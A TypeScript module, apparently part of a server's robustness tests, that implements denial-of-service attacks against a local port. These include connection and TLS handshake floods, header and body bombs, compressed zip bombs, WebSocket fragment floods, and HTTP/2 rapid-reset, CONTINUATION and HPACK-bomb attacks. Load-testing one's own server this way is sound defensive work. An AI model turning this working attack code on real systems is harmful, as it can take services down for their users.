import { once } from 'node:events';
import { type AddressInfo, createServer } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { brotliCompressSync, constants, deflateSync, gzipSync } from 'node:zlib';
import {
  FLAG,
  FRAME,
  frame,
  integer,
  literal,
  PREFACE,
  requestBlock,
  reset,
  SETTING,
  settings,
} from '../../http2/frames.ts';
import { next, openTcp, openTls, repeat, send } from './connections.ts';

const MIB = 2 ** 20;
const HANDS = 20;
const NOTHING = Buffer.alloc(0);
const STAND_MS = 2_000;
const HOST = 'host: localhost\r\n';

/** An attack that goes on until its process is ended. */
export type Attack = (port: number) => Promise<void>;

/** What is sent by our own hands; the slow ones are slowhttptest's. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'connect-flood': (port) =>
    repeat(HANDS, async () => {
      const socket = openTcp(port);
      await next(socket, 'connect');
      socket.resetAndDestroy();
    }),
  'handshake-flood': async (port) => {
    const hello = await clientHello();
    await repeat(HANDS, async () => {
      const socket = openTcp(port);
      socket.on('data', () => socket.resetAndDestroy());
      await send(socket, hello);
      await next(socket, 'close');
    });
  },
  'header-bomb': (port) =>
    repeat(HANDS, async () => {
      const socket = await openTls(port, 'http/1.1');
      if (socket === null) return;
      await send(socket, `GET / HTTP/1.1\r\n${HOST}`);
      const line = `x-filler: ${'x'.repeat(8_000)}\r\n`;
      for (let sent = 0; sent < 1_000 && !socket.destroyed; sent++) await send(socket, line);
      socket.destroy();
    }),
  /** Bodies without end, in chunks or of a length that is announced, where they are collected to be judged. */
  'body-bomb': async (port) => {
    let turn = 0;
    await repeat(HANDS, async () => {
      const socket = await openTls(port, 'http/1.1');
      if (socket === null) return;
      const isChunked = turn++ % 2 === 0;
      const framing = isChunked ? 'transfer-encoding: chunked' : `content-length: ${2 ** 40}`;
      await send(socket, `POST /notes HTTP/1.1\r\n${HOST}content-type: application/json\r\n${framing}\r\n\r\n`);
      const piece = Buffer.alloc(65_536, 'x');
      const chunk = isChunked ? Buffer.concat([Buffer.from('10000\r\n'), piece, Buffer.from('\r\n')]) : piece;
      for (let sent = 0; sent < 1_000 && !socket.destroyed; sent++) await send(socket, chunk);
      socket.destroy();
    });
  },
  'zip-bomb': async (port) => {
    const json = Buffer.from(`{"note":"${'x'.repeat(50 * MIB)}"}`);
    const bombs = [
      ['gzip', gzipSync(json)],
      ['deflate', deflateSync(json)],
      ['br', brotliCompressSync(json, { params: { [constants.BROTLI_PARAM_QUALITY]: 4 } })],
    ] as const;
    let turn = 0;
    await repeat(HANDS, async () => {
      const [coding, bomb] = bombs[turn++ % bombs.length] ?? bombs[0];
      const fields = `${HOST}content-type: application/json\r\ncontent-encoding: ${coding}\r\n`;
      await ask(port, `POST /notes HTTP/1.1\r\n${fields}content-length: ${bomb.length}\r\n\r\n`, bomb);
    });
  },
  /** A message of a byte in each piece, which never ends. */
  'ws-fragments': (port) => overWebSocket(port, maskedFrame(0x02), Buffer.concat(many(2_000, maskedFrame(0x00)))),
  'ws-deflate': (port) => overWebSocket(port, NOTHING, maskedFrame(0xc2, Buffer.alloc(100, 0xff))),
  'rapid-reset': (port) => overHttp2(port, (id) => Buffer.concat([headers(id, requestBlock('GET', '/')), reset(id)])),
  continuation: (port) =>
    overHttp2(port, (id) => {
      const piece = frame(FRAME.continuation, 0, id, Buffer.alloc(16_000, 'c'));
      return Buffer.concat([frame(FRAME.headers, FLAG.endStream, id, requestBlock('GET', '/')), ...many(20, piece)]);
    }),
  'hpack-bomb': (port) =>
    overHttp2(port, (id) => {
      const block = [
        requestBlock('GET', '/'),
        literal('x', 'y'.repeat(3_000), true),
        ...many(2_000, integer(0x80, 7, 62)),
      ];
      return headers(id, Buffer.concat(block));
    }),
  /** Heads that grow a hundredfold, on streams whose replies are never taken: they stand as long as they may (RFC 9113 §10.5). */
  'hpack-windows': (port) =>
    repeat(HANDS, async () => {
      const socket = await openTls(port, 'h2');
      if (socket === null) return;
      const grown = [
        requestBlock('GET', '/big'),
        literal('x', 'y'.repeat(3_000), true),
        ...many(3, integer(0x80, 7, 62)),
      ];
      await send(socket, Buffer.concat([PREFACE, settings([[SETTING.initialWindowSize, 0]])]));
      for (let id = 1; id < 200; id += 2) await send(socket, headers(id, Buffer.concat(grown)));
      await Promise.race([next(socket, 'close'), delay(STAND_MS)]);
      socket.destroy();
    }),
};

function many(count: number, piece: Buffer): readonly Buffer[] {
  return Array.from({ length: count }, () => piece);
}

/** One request over a connection of its own; done when that has ended, or an answer has begun. */
async function ask(port: number, head: string, body: Buffer): Promise<void> {
  const socket = await openTls(port, 'http/1.1');
  if (socket === null) return;
  const answered = next(socket, 'data');
  await send(socket, head);
  await send(socket, body);
  await answered;
  socket.destroy();
}

/** Streams made anew until the connection ends, then over another. */
async function overHttp2(port: number, make: (id: number) => Buffer): Promise<void> {
  await repeat(HANDS, async () => {
    const socket = await openTls(port, 'h2');
    if (socket === null) return;
    await send(socket, Buffer.concat([PREFACE, settings([])]));
    for (let id = 1; id < 100_000 && !socket.destroyed; id += 200) {
      for (let at = 0; at < 100 && !socket.destroyed; at += 10) {
        await send(socket, Buffer.concat(Array.from({ length: 10 }, (_, more) => make(id + 2 * (at + more)))));
      }
    }
    socket.destroy();
  });
}

function headers(id: number, block: Buffer): Buffer {
  const first = frame(FRAME.headers, FLAG.endStream, id, block.subarray(0, 16_000));
  if (block.length <= 16_000) {
    first[4] = FLAG.endStream | FLAG.endHeaders;
    return first;
  }
  return Buffer.concat([first, frame(FRAME.continuation, FLAG.endHeaders, id, block.subarray(16_000, 32_000))]);
}

/** `first` goes out once on each connection, then `frames` again and again. */
async function overWebSocket(port: number, first: Buffer, frames: Buffer): Promise<void> {
  const key = 'sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n';
  await repeat(HANDS, async () => {
    const socket = await openTls(port, 'http/1.1');
    if (socket === null) return;
    await send(socket, `GET /chat HTTP/1.1\r\n${HOST}upgrade: websocket\r\nconnection: upgrade\r\n${key}\r\n`);
    await send(socket, first);
    for (let sent = 0; sent < 1_000 && !socket.destroyed; sent++) await send(socket, frames);
    socket.destroy();
  });
}

/** A client's frame with the masking key zero; `first` is its first byte. */
function maskedFrame(first: number, payload: Buffer = Buffer.from('x')): Buffer {
  return Buffer.concat([Buffer.from([first, 0x80 | payload.length, 0, 0, 0, 0]), payload]);
}

/** The first bytes of a client, taken from one that meets nobody. */
async function clientHello(): Promise<Buffer> {
  const { promise, resolve } = Promise.withResolvers<Buffer>();
  const server = createServer((socket) => {
    socket.on('error', () => {});
    socket.once('data', (bytes: Buffer) => {
      resolve(bytes);
      socket.destroy();
    });
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  void openTls((server.address() as AddressInfo).port, 'http/1.1');
  const bytes = await promise;
  server.close();
  return bytes;
}
